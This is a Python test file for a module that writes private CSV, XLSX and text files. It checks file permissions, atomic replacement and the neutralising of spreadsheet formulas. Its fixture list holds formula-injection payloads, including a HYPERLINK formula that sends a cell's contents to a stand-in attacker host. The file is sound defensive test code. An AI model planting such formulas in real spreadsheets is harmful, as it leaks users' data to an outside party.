"""Files written for people: private, and no cell a spreadsheet would run."""

import csv
import stat
from datetime import date

import openpyxl

from pipeline.outfiles import safe_cell, write_csv, write_private_text, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1", "=1+1"]


def test_safe_cell_quotes_formula_starts_and_keeps_the_rest():
    assert [safe_cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert safe_cell("Иванов") == "Иванов"
    assert safe_cell(5) == 5 and safe_cell(None) is None


def test_csv_is_private_and_inert(tmp_path):
    path = write_csv(tmp_path / "sub" / "list.csv", ["name", "when"],
                     [[v, date(2027, 3, 12)] for v in HOSTILE])
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert rows[1:] == [["'" + v, "12.03.2027"] for v in HOSTILE]


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    path = write_xlsx(tmp_path / "r.xlsx", [("Лист", ["Имя", "Сумма", "Дата"],
                                             [[v, 10, date(2027, 1, 2)] for v in HOSTILE])])
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    sheet = openpyxl.load_workbook(path).active
    for row in sheet.iter_rows(min_row=2):
        assert row[0].data_type == "s" and row[0].value.startswith("'")
        assert row[1].value == 10
        assert row[2].value.date() == date(2027, 1, 2)


def test_private_text_replaces_atomically(tmp_path):
    target = tmp_path / "a.txt"
    write_private_text(target, "one")
    write_private_text(target, "two")
    assert target.read_text() == "two"
    assert [p.name for p in tmp_path.iterdir()] == ["a.txt"]
